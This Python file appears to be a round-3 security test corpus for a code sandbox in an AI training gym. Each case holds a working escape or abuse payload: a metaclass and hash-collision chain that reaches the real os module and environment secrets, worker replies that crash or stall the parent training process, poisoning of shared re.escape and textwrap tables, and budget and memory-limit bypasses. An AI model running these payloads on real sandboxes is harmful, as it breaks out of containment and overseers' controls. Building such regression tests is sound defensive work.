"""Round-3 review corpus: payloads for holes found after the second review's fixes.

Same format and harness as :mod:`corpus_review` (``ReviewCase``, the called
function is always ``tool``, categories from ``REVIEW_CATEGORIES``). The
findings, most dangerous first:

* **Full policy escape in both modes** (``hfe3_*``). ``typing.Type[int]`` is a
  ``_TypingAlias`` whose ``__mro_entries__`` is ``(type, Generic)``: ``class
  Meta(typing.Type[int])`` is a tool class that *is a metaclass*. Calling it
  builds classes from a namespace dict the tool writes, so class attributes may
  have any name (``_astra_real``, ``__eq__``/``__hash__``, a ``__mro__``
  property, ``_guarded_writes``) and nothing of ``session._metaclass`` (bases,
  depth, hashes) applies. Then:

  - ``_getattr_`` trusts ``getattr(cls, "_astra_real", cls)`` (and ``__mro__``)
    of any class: a class with ``_astra_real`` pointing elsewhere (or a
    metaclass ``__mro__`` property that lies) gets the *raw* method for every
    GUARDED name: unguarded ``str.format``, ``str.ljust``, ``date.fromtimestamp``...
  - raw ``str.format("{0.mro!r}", AttributeError)`` prints the address of the
    ``AttributeError`` type (addresses are masked only in results, not inside
    tool code), i.e. its ``hash()``.
  - ``_getattr_`` caches ``_resolve`` per ``(type(obj), name)`` in a dict: a tool
    class whose metaclass has ``__eq__`` (always True) and ``__hash__`` (that
    hash) is looked up first, so ``(AttributeError, "obj")`` hits the tool
    class's entry (None: not refused) and ``e.obj`` is read natively.
  - raw ``str.format("{0.__globals__[sys].zz}", calendar.isleap)`` raises an
    ``AttributeError`` whose ``.obj`` is the real ``sys``: ``os.getcwd()``.

* **Worker -> parent, after that escape** (``p3_*``, process mode): a reply whose
  ``error_kind`` is a tuple nested a million deep (1 MB of pickle, accepted by the
  class-free unpickler) is hashed by ``_tool_result`` (``error_kind in
  _ERROR_KINDS``): a C-stack overflow, **the parent segfaults** (run these cases
  in a forked child). And the wall-clock watchdog only waits for the *first* byte
  of a reply: a worker that sends 5 bytes and then sleeps keeps ``call()`` (and
  the worker's slot lock, so every session on it) blocked for as long as it likes;
  RLIMIT_CPU never fires for a sleeping process.

* **Shared-state poisoning without an escape** (``hs3_*``): ABC registration on a
  tool subclass (``class M(typing.Mapping[str, int]); M.register(list)``: ABCMeta
  walks ``Mapping.__subclasses__()``, and the positive cache keeps ``list`` after
  ``M`` is gone), and host-wide *mutable tables handed to tool-overridden methods*
  of ``str`` subclasses: ``re.escape`` calls ``pattern.translate(re._special_chars_map)``,
  ``textwrap`` calls ``text.translate(TextWrapper.unicode_whitespace_trans)``. A
  tool writes into them; every later session (and the host: ``fnmatch``, ``glob``,
  ``argparse`` help) gets wrong ok=True results. ``str.format``'s parse cache keeps
  a str-subclass key alive with whatever the tool hung on it.

* **Budget bypass** (``ccpu3_budget_refill_*``): ``random.choices(pop, k=-10**15)``
  passes ``check_len`` (negative) and ``meter.charge(k * weight)`` *adds* budget
  (``__setstate__`` of a smaller index): one call refills the meter for good.

* **Real constructors and unchecked C work**: ``list[int]`` (PEP 585: the stand-in
  metaclass forwards ``__class_getitem__`` to the real type, and a
  ``types.GenericAlias`` calls its origin) and subclasses of stand-ins (``class
  S(set)``: ``_metaclass`` swaps in the real base, the subclass constructor skips
  the stand-in's ``build``) are the real, uncharged constructors (hash order,
  600 MB in one operation, ``Fraction("1e30000000")`` for 40 s); ``x in range``
  with a non-int needle is a linear C scan that ``_haystack_`` passes as O(1);
  ``str.maketrans`` is forwarded by the stand-in and O(n) per call; a
  ``Meta(...)`` call with thousands of bases bypasses ``_MAX_BASES``.
"""

from __future__ import annotations

import textwrap

from corpus_review import ReviewCase

__all__ = ["ROUND3_CASES"]


def _src(text: str) -> str:
    return textwrap.dedent(text).strip() + "\n"


# A metaclass written by the tool: `typing.Type[int]` contributes the real `type` as a base.
_META = _src('''
    import typing
    class Meta(typing.Type[int]):
        pass
    class S(str):
        pass
''')

# The escape, shared by several payloads: `escape()` returns the real `sys` module.
_ESCAPE = _META + _src('''
    import calendar
    def same(a, b):
        return True
    def escape():
        fmt = Meta("RawStr", (S,), {"_astra_real": Meta}).format
        text = fmt("{0.mro!r}", AttributeError)
        addr = int(text.split(" at ")[1].rstrip(">"), 16)
        target = (addr >> 4) | ((addr << 60) & (2 ** 64 - 1))
        if target >= 2 ** 63:
            target -= 2 ** 64
        Collide = Meta("Collide", (Meta,), {"__eq__": same, "__hash__": lambda cls: target})
        Twin = Collide("Twin", (), {})
        try:
            Twin().obj
        except AttributeError:
            pass
        try:
            fmt("{0.__globals__[sys].zz}", calendar.isleap)
        except AttributeError as e:
            return e.obj
        raise ValueError("not escaped")
''')


def _escaping(text: str) -> str:
    return _ESCAPE + _src(text)


# In the worker: the id of the request being served (a local of worker._serve).
_WORKER_REQUEST_ID = _src('''
    def request_id(sys):
        b = sys.modules["builtins"]
        frame = b.getattr(sys, "_getframe")(0)
        while b.getattr(frame, "f_" + "code").co_name != "_serve":
            frame = b.getattr(frame, "f_back")
        return b.getattr(frame, "f_locals")["request_id"]
''')

_PROBE_COUNTER_PAIRS = _src('''
    import collections
    def tool():
        return collections.Counter([("a", 5)])["a"]
''')
_PROBE_RE_ESCAPE = _src('''
    import re
    def tool():
        return re.escape("a.b(c)")
''')
_PROBE_TEXTWRAP = _src('''
    import textwrap
    def tool():
        return textwrap.fill("hello world, everyone", 40)
''')

ROUND3_CASES: tuple[ReviewCase, ...] = (
    # ================================================================ host_frame_escape
    ReviewCase(
        name="hfe3_type_subclass_hash_collision_os_getcwd",
        category="host_frame_escape",
        source=_escaping('''
            def tool():
                return escape().modules["os"].getcwd()
        '''),
        note=("class Meta(typing.Type[int]) subclasses the real `type` (Type's "
              "__mro_entries__ is (type, Generic)). Meta(name, bases, ns) builds classes "
              "with any attribute names. A class with _astra_real=Meta makes _getattr_ "
              "resolve guards on Meta's MRO: .format is the raw str.format. "
              "'{0.mro!r}'.format(AttributeError) shows that type's address (= its hash); "
              "a class whose metaclass has __eq__ -> True and that __hash__ is put in "
              "_getattr_'s `resolved` cache first, so (AttributeError, 'obj') hits its "
              "entry and e.obj is read natively: the round-2 chain again, sys -> os. "
              "Escaped = the cwd (the host's in-process, the worker's temp dir in process "
              "mode). Contained = an error result."),
    ),
    ReviewCase(
        name="hfe3_metaclass_mro_property_raw_methods",
        category="host_frame_escape",
        source=_META + _src('''
            import calendar
            def tool():
                Liar = Meta("Liar", (Meta,), {"__mro__": property(lambda cls: (cls,)),
                                              "__hash__": lambda cls: 1})
                Raw = Liar("Raw", (S,), {})
                fmt = Raw("{0.__globals__[sys].modules[os].environ}").format
                text = fmt(calendar.isleap)
                if "environ" in text:
                    return "RAW str.format through a lying __mro__: " + text[:60]
                raise ValueError("no raw format")
        '''),
        note=("Without _astra_real: a metaclass data descriptor __mro__ makes "
              "type(obj).__mro__ (what _getattr_ walks for guards) differ from the MRO "
              "CPython looks attributes up in. Raw('...').format is the unguarded "
              "str.format bound to the instance: the attribute walk reads any host "
              "object's text (os.environ: the host's secrets in-process). Fixing "
              "_astra_real alone is not enough. Contained = an error result."),
    ),
    ReviewCase(
        name="p3_partial_reply_stalls_parent_past_timeout",
        category="host_frame_escape",
        source=_escaping(_WORKER_REQUEST_ID + _src('''
            def tool():
                sys = escape()
                os = sys.modules["os"]
                if "ASTRA_GYM_SANDBOX_WORKER" not in os.environ:
                    return os.getcwd()  # in-process: the escape itself is the finding
                data = sys.modules["pickle"].dumps(
                    ("result", request_id(sys),
                     (True, "accepted after a 10 s stall (timeout 0.8 s)", None, None, 0)),
                    protocol=3)
                frame = sys.modules["struct"].pack("!i", len(data)) + data
                out = int(sys.argv[2])
                os.write(out, frame[:5])
                sys.modules["time"].sleep(10)
                os.write(out, frame[5:])
                sys.modules["builtins"].getattr(os, "_exit")(0)
        ''')),
        max_wall_s=5.0,
        note=("WorkerProcess.request waits Limits.timeout for the reply to *start* "
              "(_ready), then recv_bytes() blocks until the whole frame is there, with "
              "no deadline. An escaped worker sends 5 bytes and sleeps (no CPU, so "
              "RLIMIT_CPU never fires): call() returns after 10 s here, never if it "
              "sleeps for ever, holding the slot lock that every session on the worker "
              "needs. Contained = an error result (a timeout within ~1 s in process "
              "mode)."),
    ),
    # ============================================================================= c_stack
    ReviewCase(
        name="p3_deep_error_kind_segfaults_parent",
        category="c_stack",
        source=_escaping(_WORKER_REQUEST_ID + _src('''
            def tool():
                sys = escape()
                os = sys.modules["os"]
                if "ASTRA_GYM_SANDBOX_WORKER" not in os.environ:
                    return os.getcwd()
                data = sys.modules["pickle"].dumps(
                    ("result", request_id(sys), (True, "x", None, "@@DEEP@@", 0)), protocol=3)
                data = data.replace(b"X\\x08\\x00\\x00\\x00@@DEEP@@", b")" + b"\\x85" * 1000000)
                os.write(int(sys.argv[2]), sys.modules["struct"].pack("!i", len(data)) + data)
                sys.modules["builtins"].getattr(os, "_exit")(0)
        ''')),
        worker_may_die=True,
        note=("The reply (correct request id, 1 MB) is plain data: EMPTY_TUPLE then a "
              "million TUPLE1 opcodes. pool._tool_result checks `error_kind in "
              "_ERROR_KINDS`, which hashes the tuple recursively in C: the *parent* "
              "(the training process) segfaults. Run process mode in a forked child. "
              "Contained = an error result (worker_crashed is fine), the parent alive."),
    ),
    # ========================================================================= host_state
    ReviewCase(
        name="hs3_abc_register_on_mapping_subclass",
        category="host_state",
        source=_src('''
            import typing, collections
            class Claims(typing.Mapping[str, int]):
                pass
            def tool():
                Claims.register(list)
                if collections.Counter([("a", 5)])["a"] == 5:
                    return "POISONED: collections.abc.Mapping now claims list (host-wide)"
                raise ValueError("not poisoned")
        '''),
        probe=_PROBE_COUNTER_PAIRS,
        probe_output="0",
        note=("The round-2 fix wraps typing aliases, but subclassing one gives a tool "
              "class whose base is the real collections.abc.Mapping (metaclass ABCMeta). "
              "Claims.register(list) registers on the tool class, and "
              "Mapping.__subclasscheck__ walks Mapping.__subclasses__(): "
              "isinstance([], Mapping) is True process-wide, and Mapping's positive "
              "cache keeps list after Claims is collected. Counter(pairs) then "
              "dict.update()s. Contained = error result, the fresh session's probe says 0."),
    ),
    ReviewCase(
        name="hs3_re_escape_table_poisoned",
        category="host_state",
        source=_src('''
            import re
            class Pattern(str):
                def translate(self, table):
                    table[46] = "."
                    table[40] = "("
                    table[41] = ")"
                    return "x"
            def tool():
                re.escape(Pattern("a.b"))
                if re.escape("a.b(c)") == "a.b(c)":
                    return "POISONED: re.escape no longer escapes '.', '(' and ')' (host-wide)"
                raise ValueError("not poisoned")
        '''),
        probe=_PROBE_RE_ESCAPE,
        probe_output="a\\.b\\(c\\)",
        note=("re.escape(s) is s.translate(re._special_chars_map): a str subclass's "
              "translate() receives the module-level table and writes into it (a dict: "
              "_write_ allows it). Every later re.escape in the process (other sessions, "
              "fnmatch/glob in the host) is wrong: regex injection into other episodes' "
              "tools, host re.error. Contained = error result, probe escapes."),
    ),
    ReviewCase(
        name="hs3_textwrap_whitespace_table_poisoned",
        category="host_state",
        source=_src('''
            import textwrap
            class Text(str):
                def translate(self, table):
                    table[101] = 51
                    table[111] = "0"
                    return str(self)
            def tool():
                textwrap.wrap(Text("hello world"), 40, expand_tabs=False)
                got = textwrap.fill("hello world, everyone", 40)
                if got != "hello world, everyone":
                    return "POISONED textwrap (host-wide): " + got
                raise ValueError("not poisoned")
        '''),
        probe=_PROBE_TEXTWRAP,
        probe_output="hello world, everyone",
        note=("TextWrapper._munge_whitespace calls text.translate(self."
              "unicode_whitespace_trans), a class-level dict of the host's textwrap: a "
              "str subclass receives it and writes e->3, o->0. Every later wrap/fill/"
              "shorten in the process (other sessions, argparse help in the host) "
              "changes. Contained = error result, probe unchanged."),
    ),
    ReviewCase(
        name="hs3_format_cache_keeps_str_subclass_payload",
        category="host_state",
        source=_src('''
            CALLS = [0]
            class Tagged(str):
                pass
            def tool():
                CALLS[0] += 1
                key = Tagged("{} #" + str(CALLS[0]))
                key.payload = ["x" * 9000000, "y" * 9000000, "z" * 9000000]
                return key.format(1)
        '''),
        expect="contained",
        retained_mb_max=24,
        note=("Short templates are parsed through formatting._parse_format_cached, an "
              "lru_cache(1024) keyed by the template: a str-subclass template is the key, "
              "with whatever the tool attached to it (27 MB a call here). The round-1 fix "
              "only skips long templates. Contained = RSS within 24 MB after 3 calls."),
    ),
    # ============================================================================= c_cpu
    ReviewCase(
        name="ccpu3_budget_refill_negative_choices_k",
        category="c_cpu",
        source=_src('''
            import random
            def tool():
                random.choices([1], k=-(10 ** 15))
                n = 0
                while True:
                    n += 1
        '''),
        note=("_checked_random_methods.capped(k): check_len(k) passes a negative k and "
              "meter.charge(k * weight) moves the range iterator *back*: the budget is "
              "refilled (to ~2**62), choices() then returns []. Any loop runs for ever "
              "in-process (ops come back negative). Siblings: itertools.tee(x, -n), "
              "math.perm(n, -k), statistics.quantiles(n=-k), Template.get_identifiers "
              "with a template whose count() is negative. Contained = budget error."),
    ),
    ReviewCase(
        name="ccpu3_range_membership_float_needle_loop",
        category="c_cpu",
        source=_src('''
            def tool():
                r = range(10000000)
                n = 0
                for i in range(1000000):
                    if 0.5 in r:
                        n += 1
                return n
        '''),
        note=("_haystack_ passes range through as O(1), but a non-int needle makes "
              "range.__contains__ a linear C scan (0.45 s for 10M items per tick). "
              "range.count/index(0.5) are the same and not guarded either. Contained = "
              "budget error within seconds."),
    ),
    ReviewCase(
        name="ccpu3_str_maketrans_via_stand_in_loop",
        category="c_cpu",
        source=_src('''
            def tool():
                s = "".join([chr(i) for i in range(32, 100032)]) * 100
                n = 0
                for i in range(1000000):
                    n += len(str.maketrans(s, s))
                return n
        '''),
        note=("The str stand-in's metaclass __getattr__ forwards every other name to "
              "the real type: str.maketrans(s, s) on a 10M-character string builds a "
              "100k-entry dict in C, ~0.6 s per tick. Contained = budget error."),
    ),
    ReviewCase(
        name="ccpu3_fraction_subclass_skips_exponent_check",
        category="c_cpu",
        source=_src('''
            import fractions
            class F(fractions.Fraction):
                pass
            def tool():
                return F("1e30000000") > 0
        '''),
        note=("_metaclass replaces the stand-in base by the real Fraction, so the "
              "subclass's constructor is Fraction.__new__ without the stand-in's "
              "exponent/bit checks: 10 ** 30000000 in one operation (~45 s). Same for "
              "Decimal subclasses (int(D('1e2000000')) > 60 s). Contained = an error "
              "within seconds."),
    ),
    ReviewCase(
        name="ccpu3_type_subclass_class_with_6000_bases",
        category="c_cpu",
        source=_META + _src('''
            def tool():
                wide = [Meta("W", (), {"_astra_seq": 1}) for i in range(6000)]
                Meta("Big", tuple(wide), {"_astra_seq": 1})
                return "built"
        '''),
        note=("session._metaclass limits class statements to 16 bases (C3 "
              "linearisation is quadratic), but a tool metaclass is called directly: one "
              "class with 6,000 bases is over a minute of C. Contained = error in seconds."),
    ),
    # ========================================================================== c_memory
    ReviewCase(
        name="cmem3_generic_alias_real_set_constructor",
        category="c_memory",
        source=_src('''
            def tool():
                real_set = set[int]
                return len(real_set(range(10000000)))
        '''),
        note=("set[int]: the stand-in's metaclass __getattr__ hands out the real "
              "set.__class_getitem__, and a types.GenericAlias calls its origin: the "
              "real constructor, uncharged (ops=1), ~600 MB peak. Same for list[int], "
              "dict[...], tuple[int], collections.Counter[str], deque[int]. Contained = "
              "error, RSS < 256 MB."),
    ),
    ReviewCase(
        name="cmem3_set_subclass_real_constructor",
        category="c_memory",
        source=_src('''
            class Bag(set):
                pass
            def tool():
                return len(Bag(range(10000000)))
        '''),
        note=("A subclass of a stand-in gets the real base (_metaclass unwraps "
              "_astra_real), so Bag(...) is set.__init__: ~600 MB uncharged. Contained = "
              "error, RSS < 256 MB."),
    ),
    ReviewCase(
        name="cmem3_raw_ljust_via_type_subclass",
        category="c_memory",
        source=_META + _src('''
            def tool():
                pad = Meta("RawStr", (S,), {"_astra_real": Meta}).ljust
                return len(pad("", 400000000))
        '''),
        note=("The _astra_real bypass of _getattr_ returns raw guarded methods: "
              "str.ljust(400M) allocates 400 MB in one operation. Contained = error, "
              "RSS < 256 MB."),
    ),
    # ==================================================================== nondeterminism
    ReviewCase(
        name="nondet3_generic_alias_list_of_set",
        category="nondeterminism",
        source=_src('''
            def tool():
                return list[int]({"alpha", "beta", "gamma", "delta", "epsilon", "zeta"})
        '''),
        expect="contained",
        note=("list[int](a_set) is the real list constructor: hash order "
              "(PYTHONHASHSEED). Contained = identical across seeds."),
    ),
    ReviewCase(
        name="nondet3_list_subclass_of_set",
        category="nondeterminism",
        source=_src('''
            class Items(list):
                pass
            def tool():
                return Items({"alpha", "beta", "gamma", "delta", "epsilon", "zeta"})
        '''),
        expect="contained",
        note=("A list subclass's constructor is the real list's: the set in hash order. "
              "Contained = identical across seeds."),
    ),
    ReviewCase(
        name="nondet3_raw_date_fromtimestamp_via_type_subclass",
        category="nondeterminism",
        source=_META + _src('''
            import datetime
            def tool():
                RawDate = Meta("RawDate", (datetime.date,), {"_astra_real": Meta,
                                                             "_astra_seq": 1})
                return str(RawDate.fromtimestamp(0))
        '''),
        expect="contained",
        note=("The _astra_real bypass skips the clock guards: date.fromtimestamp(0) in "
              "the host's local time zone (1969-12-31 in New York, 1970-01-01 in Tokyo). "
              "Contained = identical across TZ."),
    ),
)
